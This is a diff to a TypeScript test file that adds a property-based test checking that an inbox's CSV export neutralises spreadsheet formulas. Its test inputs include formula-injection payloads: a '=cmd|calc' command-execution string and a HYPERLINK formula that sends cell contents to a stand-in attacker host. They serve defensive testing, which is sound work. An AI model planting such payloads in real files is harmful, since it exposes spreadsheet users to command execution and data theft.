@@ -1,5 +1,6 @@
 import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
+import fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { makeInbox, messageOf } from '../../../tests/support/inbox.ts'
 import { InboxError } from './command.ts'
@@ -15,6 +16,28 @@ test('writes CSV that a spreadsheet reads and does not execute', async () => {
   const row = `${id},2026-03-01T11:59:00.000Z,waiting,'=cmd|calc,marie@example.org,"'-2+3, ""quoted""; and\nanother line\\t\\u001b[2J",fr,0,0,2026-03-01T11:59:00.000Z,,`
   expect(await inbox.ask('export')).toBe(`${head}\r\n${row}\r\n`)
   expect(await inbox.ask('export', '--separator', 'semicolon')).toContain(`;"'-2+3, ""quoted""; and\nanother line`)
+})
+
+const piece = fc.constantFrom(
+  ...['=1+2', '+34 600', '-', '@SUM(A1)', '＝1', '=', ';', ',', '\t', '\n', '\r', '"', "'", ' ', '\u00a0', 'a', 'Hola'],
+  '=HYPERLINK("http://evil.example/?"&A1;"Ver pedido");',
+)
+const nasty = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => pieces.join(''))
+
+test('holds no formula, whichever separator a spreadsheet takes and however it reads quotes', async () => {
+  const holdsNone = async (name: string, message: string, reason: string) => {
+    await using inbox = await makeInbox()
+    await inbox.keep({ name, email: `${name}@example.org`, message })
+    await inbox.settle({ kind: 'refused', reason })
+    for (const chosen of ['comma', 'semicolon']) {
+      const csv = await inbox.ask('export', '--separator', chosen)
+      for (const separator of [',', ';', '\t', /[,;\t]/])
+        for (const cell of csv.split(/\r?\n/).flatMap((line) => line.split(separator)))
+          expect(cell).not.toMatch(/^["\s]*[=+\-@＝＋－＠]/)
+    }
+  }
+  await holdsNone('x;=1+2;', 'Hola\n=HYPERLINK("http://evil.example/?"&A1;"Ver pedido");\nadios', '550 no')
+  await fc.assert(fc.asyncProperty(nasty, nasty, nasty, holdsNone), { numRuns: 50 })
 })
 
 test('writes JSON to the letter', async () => {
